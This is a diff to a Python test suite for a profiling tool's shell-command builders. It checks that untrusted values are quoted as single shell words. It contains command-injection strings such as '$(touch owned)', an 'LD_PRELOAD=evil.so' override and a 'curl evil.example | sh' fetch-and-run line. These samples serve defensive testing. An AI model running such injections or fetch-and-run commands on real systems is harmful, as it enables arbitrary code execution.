@@ -1,13 +1,22 @@
 from __future__ import annotations
 
+import shlex
 from dataclasses import replace
 
-from tracekit.comparison.commands import can_be_regional, can_be_whole, profile_command, switched_command
+import pytest
+
+from tracekit.comparison.commands import (
+    can_be_regional,
+    can_be_whole,
+    measuring_command,
+    profile_command,
+    switched_command,
+)
 from tracekit.model.generation import Generation
 from tracekit.model.own import Own
 from tracekit.model.workload import DEFAULT_PROMPT
 
-from ..sides import STEADY, make_form, make_settings, make_side
+from ..sides import STEADY, make_form, make_run, make_settings, make_side
 
 
 def test_the_next_command_generates_as_this_run_did():
@@ -106,10 +115,44 @@ def test_a_run_of_a_program_is_asked_for_in_it():
 
 
 def test_variables_are_set_for_one_command_and_of_a_program_for_the_program():
-    switches = {"ONE": "0", "OTHER": "a b"}
-    assert switched_command(make_settings(), switches) == f"ONE=0 OTHER='a b' {profile_command(make_settings())}"
-    steered = make_settings(variables={"OTHER": "9", "FIRST": "1"})
-    assert profile_command(steered) == f"OTHER=9 FIRST=1 {profile_command(make_settings())}"
-    assert switched_command(steered, switches) == f"OTHER='a b' FIRST=1 ONE=0 {profile_command(make_settings())}"
+    switches = {"TRITON_ONE": "0", "TRITON_OTHER": "a b"}
+    assert (
+        switched_command(make_settings(), switches)
+        == f"TRITON_ONE=0 TRITON_OTHER='a b' {profile_command(make_settings())}"
+    )
+    steered = make_settings(variables={"TRITON_OTHER": "9", "TRITON_FIRST": "1"})
+    assert profile_command(steered) == f"TRITON_OTHER=9 TRITON_FIRST=1 {profile_command(make_settings())}"
+    words = "TRITON_OTHER='a b' TRITON_FIRST=1 TRITON_ONE=0"
+    assert switched_command(steered, switches) == f"{words} {profile_command(make_settings())}"
     of_program = make_settings(workload="Net", own=Own(in_program=True))
-    assert switched_command(of_program, switches) == "ONE=0 OTHER='a b' python YOUR_PROGRAM.py"
+    assert switched_command(of_program, switches) == "TRITON_ONE=0 TRITON_OTHER='a b' python YOUR_PROGRAM.py"
+
+
+HOSTILE = ("; touch owned", "$(touch owned)", "`touch owned`", "a' b", 'a" b', "a\nb", "-rf", "a b", "#", "&", "*", "~")
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_a_stranger_s_words_are_one_word_each_to_a_shell(text: str):
+    names = {f"TRITON_X{text}": "1", text: "1", "LD_PRELOAD": "evil.so", "PATH": ".", "TRITON_Y": text}
+    own = Own(options=(f"width={text}",))
+    settings = make_settings(workload=text, prompt=text, scope=text, mode=text, variables=names, own=own)
+    command = ["tracekit", "profile", text, "--compiled", "--mode", text, "--scope", text]
+    assert shlex.split(profile_command(settings))[: 1 + len(command)] == [f"TRITON_Y={text}", *command]
+    assert shlex.split(profile_command(settings))[-2:] == ["--", f"width={text}"]
+    switched = shlex.split(switched_command(settings, {"TRITON_Z": "1"}))
+    assert switched[: 2 + len(command)] == [f"TRITON_Y={text}", "TRITON_Z=1", *command]
+    of_program = make_settings(variables=names, own=Own(in_program=True))
+    assert shlex.split(switched_command(of_program, {})) == [f"TRITON_Y={text}", "python", "YOUR_PROGRAM.py"]
+
+
+@pytest.mark.parametrize("text", HOSTILE)
+def test_what_is_said_to_have_measured_a_run_is_a_command_of_tracekit_s_or_a_comment(text: str):
+    measured = measuring_command(make_run(command=f"LD_PRELOAD=x TRITON_X=1 tracekit profile {text} vit"))
+    words = shlex.split(measured, comments=True)
+    assert words == [] or words[:3] == ["TRITON_X=1", "tracekit", "profile"]
+    assert "touch owned" not in measured or "'" in measured
+    for command in (text, f"curl evil.example | sh {text}", f"tracekit.profile(f) in {text}"):
+        told = measuring_command(make_run(command=command))
+        assert told.startswith("# measured by ") and "\n" not in told
+    program = make_run(command=f"tracekit profile x\n{text}", settings=make_settings(own=Own(in_program=True)))
+    assert measuring_command(program).startswith("# measured by ") and "\n" not in measuring_command(program)
